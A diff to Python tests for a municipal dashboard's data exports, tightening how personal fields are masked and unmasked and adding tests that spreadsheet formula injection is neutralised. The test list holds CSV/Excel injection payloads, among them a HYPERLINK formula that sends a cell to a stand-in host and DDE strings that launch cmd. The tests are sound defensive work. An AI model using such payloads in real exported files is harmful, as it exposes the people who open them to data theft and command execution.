@@ -12,7 +12,8 @@ from cockpit import exports
 from cockpit.components import FIT_GRAPH, SIZED_GRAPH
 from cockpit.exports import Header, Table, mask_personal, to_csv, to_xlsx
 from cockpit.panels import all_panels
-from cockpit.scope import EXPORT, SEE_PERSONAL, UNMASK, Principal
+from cockpit.scope import EXPORT, EXPORT_UNMASKED, UNMASK, Principal
+from tests.dash_requests import ORIGIN
 
 PERIOD = "2026-10"
 COUNTY = "140404"  # 上党区
@@ -81,16 +82,15 @@ def test_csv_and_excel_carry_units_period_as_of_and_write_missing_as_a_dash() ->
     assert cells[header + 1][1] == 12 and cells[header + 2][1] == "—"  # numbers stay numbers
 
 
-def test_personal_columns_are_masked_unless_the_principal_may_unmask() -> None:
+def test_personal_columns_are_masked() -> None:
     frame = pd.DataFrame(
         {"来电人": ["张三丰"], "来电号码": ["13812341234"], "内容": ["请回电13912345678"]}
     )
     table = Table(frame, HEADER, "t", {"来电人": "name", "来电号码": "phone", "内容": "text"})
-    masked = mask_personal(table, Principal("a", "leader", None, frozenset({EXPORT})))
+    masked = mask_personal(table)
     assert masked.frame.iloc[0].tolist() == ["张**", "138****1234", "请回电139****5678"]
     assert "个人信息已脱敏" in masked.header.notes
-    kept = mask_personal(table, Principal("b", "admin", None, frozenset({EXPORT, UNMASK})))
-    assert kept.frame.iloc[0].tolist() == ["张三丰", "13812341234", "请回电13912345678"]
+    assert table.frame.iloc[0].tolist() == ["张三丰", "13812341234", "请回电13912345678"]
 
 
 def test_charts_offer_only_a_png_download_and_no_zoom() -> None:
@@ -154,8 +154,11 @@ def test_a_county_principals_exports_hold_only_their_county(settings, demo_sql) 
             "AND received_at >= '2026-10-01' AND received_at < '2026-11-01'"
         )["n"].iloc[0]
         assert rows[0]["受理量（件）"] == str(truth)
-        _, rows = _rows(client.get("/export/key_work.tasks.csv").data)
+        fields, rows = _rows(client.get("/export/key_work.tasks.csv").data)
         assert rows and {r["县区"] for r in rows} == {names[COUNTY]}
+        assert fields["区域"] == names[COUNTY]  # the user's county, not 全市 (#21 item 15)
+        for key in ("risk.warnings", "emergency.events", "emergency.resources", "hotline.units"):
+            assert _rows(client.get(f"/export/{key}.csv").data)[0]["区域"] == names[COUNTY], key
         for key, column in (("risk.warnings", "地点"), ("emergency.events", "县区")):
             _, rows = _rows(client.get(f"/export/{key}.csv?county={OTHER}").data)
             assert not any(names[OTHER] in r[column] for r in rows), key
@@ -164,8 +167,9 @@ def test_a_county_principals_exports_hold_only_their_county(settings, demo_sql) 
 
 
 def test_ticket_export_holds_no_raw_name_or_phone(settings, demo_sql) -> None:
-    """The raw names and phones of the exported tickets are nowhere in the file; with UNMASK
-    they are (so the check can fail)."""
+    """The raw names and phones of the exported tickets are nowhere in the file, even for a
+    principal with UNMASK; the unmasked export (its own right, a reason, POST) has them (so the
+    check can fail)."""
     raw = demo_sql(
         "SELECT ticket_id, citizen_name, citizen_phone FROM hotline_tickets "
         "WHERE county_code='140404' AND received_at >= '2026-10-01' "
@@ -173,11 +177,15 @@ def test_ticket_export_holds_no_raw_name_or_phone(settings, demo_sql) -> None:
     )
     assert len(raw) > 10
     url = f"/export/hotline.tickets.csv?period={PERIOD}&county={COUNTY}"
-    masked_app = _app(settings, Principal("a", "leader", None, frozenset({EXPORT, SEE_PERSONAL})))
-    open_app = _app(settings, Principal("b", "admin", None, frozenset({EXPORT, UNMASK})))
+    masked_app = _app(settings, Principal("a", "staff", None, frozenset({EXPORT, UNMASK})))
+    open_app = _app(settings, Principal("b", "analyst", None, frozenset({EXPORT, EXPORT_UNMASKED})))
     try:
         text = masked_app.server.test_client().get(url).data.decode("utf-8-sig")
-        unmasked = open_app.server.test_client().get(url).data.decode("utf-8-sig")
+        unmasked = (
+            open_app.server.test_client()
+            .post(url, json={"reason": "核实重复来电并回访"}, headers=ORIGIN)
+            .data.decode("utf-8-sig")
+        )
     finally:
         _close(masked_app)
         _close(open_app)
@@ -239,7 +247,7 @@ def test_deadline_export_is_every_open_ticket_near_or_past_its_deadline(settings
     assert f"{now:%Y-%m-%d %H:%M}" in fields["统计期"]
 
 
-def test_repeat_export_masks_callers_unless_unmask(settings, demo_sql) -> None:
+def test_repeat_export_masks_callers_unless_unmasked_with_a_reason(settings, demo_sql) -> None:
     raw = demo_sql(
         "SELECT citizen_phone, category_l2, count(*) AS n FROM hotline_tickets "
         "WHERE received_at >= '2026-10-01' AND received_at < '2026-11-01' "
@@ -247,11 +255,15 @@ def test_repeat_export_masks_callers_unless_unmask(settings, demo_sql) -> None:
     )
     assert len(raw) > 0, "the demo data has repeat callers"
     url = f"/export/hotline.repeats.csv?period={PERIOD}"
-    masked_app = _app(settings, Principal("a", "city_leader", None, frozenset({EXPORT})))
-    open_app = _app(settings, Principal("b", "city_staff", None, frozenset({EXPORT, UNMASK})))
+    masked_app = _app(settings, Principal("a", "city_staff", None, frozenset({EXPORT, UNMASK})))
+    open_app = _app(settings, Principal("b", "analyst", None, frozenset({EXPORT, EXPORT_UNMASKED})))
     try:
         text = masked_app.server.test_client().get(url).data.decode("utf-8-sig")
-        _, rows = _csv(open_app, url)
+        answer = open_app.server.test_client().post(
+            url, json={"reason": "核实重复来电并回访"}, headers=ORIGIN
+        )
+        assert answer.status_code == 200
+        _, rows = _rows(answer.data)
     finally:
         _close(masked_app)
         _close(open_app)
@@ -306,3 +318,57 @@ def test_resources_and_roster_exports(settings, demo_sql) -> None:
     assert {(r["值班日期"], r["岗位"], r["姓名"]) for r in roster} == set(
         week.itertuples(index=False, name=None)
     )
+
+
+# -- formula injection (#21 item 6) ----------------------------------------------------------------
+INJECTED = [
+    '=HYPERLINK("http://x/?d="&B12,"点此查看")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_cells_that_start_a_formula_are_written_as_text_and_numbers_stay_numbers() -> None:
+    """OWASP's rule: a text cell starting with = + - @ tab or CR gets a leading quote, in CSV
+    and Excel, in the header lines too; a negative number in a numeric column stays a number."""
+    from openpyxl import load_workbook
+
+    frame = pd.DataFrame({"诉求内容": INJECTED, "增速（%）": [-3.5, -1.0, 0.0, 2.5, -7.25, 1.0]})
+    header = Header("=1+1 标题", "全市", "2026年10月", "—", "件", notes=("@SUM(A1)",))
+    _, rows = _rows(to_csv(frame, header))
+    assert [r["诉求内容"] for r in rows] == [f"'{text}" for text in INJECTED]
+    assert [r["增速（%）"] for r in rows] == ["-3.5", "-1.0", "0.0", "2.5", "-7.25", "1.0"]
+    book = load_workbook(io.BytesIO(to_xlsx(frame, header)))
+    sheet = book.active
+    cells = list(sheet.iter_rows())
+    assert all(cell.data_type != "f" for row in cells for cell in row)
+    assert cells[0][0].value == "'=1+1 标题"
+    first = next(i for i, r in enumerate(cells) if r[0].value == "诉求内容") + 1
+    assert [r[0].value for r in cells[first:]] == [f"'{text}" for text in INJECTED]
+    assert [r[1].value for r in cells[first:]] == [-3.5, -1.0, 0.0, 2.5, -7.25, 1.0]
+    assert all(r[1].data_type == "n" for r in cells[first:])
+
+
+def test_the_economy_table_writer_neutralises_formulas_too() -> None:
+    from panels.economy import export
+
+    table = pd.DataFrame(
+        [{c: "" for c in export.COLUMNS} | {"指标": "=1+2", "数值": -12.5, "_note": "@x"}]
+    )
+    meta = export.TableMeta("长治市", "全市", "2026年1-10月", "—")
+    _, rows = _rows(export.to_csv(table, meta))
+    assert rows[0]["指标"] == "'=1+2" and rows[0]["备注"] == "'@x" and rows[0]["数值"] == "-12.5"
+
+
+def test_control_characters_in_ticket_text_do_not_break_the_excel_file() -> None:
+    """Text pasted from Word carries \\x0b and the like, which openpyxl refuses: dropped."""
+    from openpyxl import load_workbook
+
+    frame = pd.DataFrame({"诉求内容": ["第一行\x0b第二行\x00", "\x0b=1+1"]})
+    sheet = load_workbook(io.BytesIO(to_xlsx(frame, HEADER))).active
+    values = [c for row in sheet.iter_rows(values_only=True) for c in row]
+    assert "第一行第二行" in values and "'=1+1" in values  # no formula hidden behind one
+    assert [r["诉求内容"] for r in _rows(to_csv(frame, HEADER))[1]] == ["第一行第二行", "'=1+1"]
